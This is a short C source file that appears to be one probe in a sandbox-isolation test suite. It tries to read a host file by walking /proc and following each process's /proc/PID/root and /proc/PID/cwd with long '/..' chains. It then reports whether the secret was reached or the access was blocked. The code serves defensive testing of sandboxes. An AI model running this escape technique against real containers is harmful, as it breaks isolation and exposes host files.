// Looks for the host's root behind /proc/PID/root and /proc/PID/cwd of every process that is
// visible, PID 1 first. argv: PATH SECRET
#include "payload.h"

static void attack(int argc, char** argv) {
  const char* path = need(argc, argv, 1);
  const char* secret = need(argc, argv, 2);
  DIR* proc = opendir("/proc");
  if (!proc) inconclusive("/proc: %s", strerror(errno));
  char up[256] = "";
  for (int i = 0; i < 32; ++i) strcat(up, "/..");
  int seen = 0;
  for (struct dirent* e; (e = readdir(proc));) {
    if (!is_number(e->d_name)) continue;
    ++seen;
    char through[8192];
    snprintf(through, sizeof through, "/proc/%s/root%s", e->d_name, path);
    if (path_holds(through, secret) == 1)
      succeeded("read the secret through /proc/%s/root", e->d_name);
    snprintf(through, sizeof through, "/proc/%s/cwd%s%s", e->d_name, up, path);
    if (path_holds(through, secret) == 1)
      succeeded("read the secret through /proc/%s/cwd", e->d_name);
  }
  if (seen < 2) inconclusive("/proc shows %d processes", seen);
  blocked_because("ENOENT the roots of all %d visible processes are the sandbox's", seen);
}
